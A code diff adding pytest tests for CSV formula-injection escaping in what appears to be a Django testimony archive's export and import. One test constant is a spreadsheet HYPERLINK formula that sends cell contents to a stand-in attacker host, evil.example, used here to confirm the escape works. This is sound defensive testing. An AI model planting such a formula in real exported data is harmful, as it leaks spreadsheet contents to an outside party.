@@ -112,6 +112,93 @@ def test_csv_joins_several_tags_with_semicolons(client, published):
     assert sorted(row["tags"].split(";")) == ["first-hand", "second-hand"]
 
 
+# --- formula injection (OWASP "CSV Injection") -------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Watch the video")'
+SPEECH = "- Они стреляли, - сказал он. - Прямо в толпу."
+
+
+def test_a_body_that_looks_like_a_formula_is_exported_with_a_leading_apostrophe(client, published):
+    published.body = HYPERLINK
+    published.save()
+
+    text = _body(client.get("/testimonies/export.csv"))
+
+    assert '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Watch the video"")"' in text
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["body"] == "'" + HYPERLINK
+
+
+def test_free_text_cells_are_guarded_and_generated_values_left_alone(client, published):
+    published.title = "@SUM(1+1)"
+    published.translation = "+7 700 000 00 00"
+    published.witness.descriptor = "-protester"
+    published.witness.save()
+    published.save()
+
+    (row,) = _csv(client.get("/testimonies/export.csv"))
+
+    assert row["title"] == "'@SUM(1+1)"
+    assert row["translation"] == "'+7 700 000 00 00"
+    assert row["witness_descriptor"] == "'-protester"
+    assert row["identifier"] == published.identifier
+    assert row["date_start"] == "2022-01-05"
+    assert row["url"] == f"http://testserver/testimonies/{published.identifier}/"
+
+
+def test_a_formula_is_escaped_in_the_csv_export_and_left_verbatim_in_the_json_export(client, published):
+    published.body = HYPERLINK
+    published.title = "'=not a formula"
+    published.save()
+
+    (row,) = _csv(client.get("/testimonies/export.csv"))
+    (record,) = json.loads(_body(client.get("/testimonies/export.json")))["testimonies"]
+
+    assert (row["body"], row["title"]) == ("'" + HYPERLINK, "''=not a formula")
+    assert (record["body"], record["title"]) == (HYPERLINK, "'=not a formula")
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        (SPEECH, "'" + SPEECH),
+        ("@channel", "'@channel"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("'=1+1", "''=1+1"),
+        ("''-1", "'''-1"),
+        ("'quoted'", "'quoted'"),
+        ("'", "'"),
+        ("It's 1+1", "It's 1+1"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_csv_escape_is_undone_exactly_by_csv_unescape(text, cell):
+    assert interchange.csv_escape(text) == cell
+    assert interchange.csv_unescape(cell) == text
+
+
+def test_a_body_opening_with_a_speech_dash_is_escaped_and_imports_back_byte_identical(client, published, tmp_path):
+    from testimony import importing
+
+    published.body = SPEECH
+    published.save()
+    exported = b"".join(client.get("/testimonies/export.csv").streaming_content)
+    (row,) = csv.DictReader(io.StringIO(exported.decode()))
+    assert row["body"] == "'" + SPEECH
+    (tmp_path / "export.csv").write_bytes(exported)
+    Testimony.objects.all().delete()
+
+    report = importing.import_file(tmp_path / "export.csv", publish=True)
+
+    assert report.ok and report.written, report.errors
+    assert Testimony.objects.get().body == SPEECH
+    assert b"".join(client.get("/testimonies/export.csv").streaming_content) == exported
+
+
 def test_json_parses_and_holds_the_vocabulary_and_the_testimonies(client, collection):
     response = client.get("/testimonies/export.json")
 
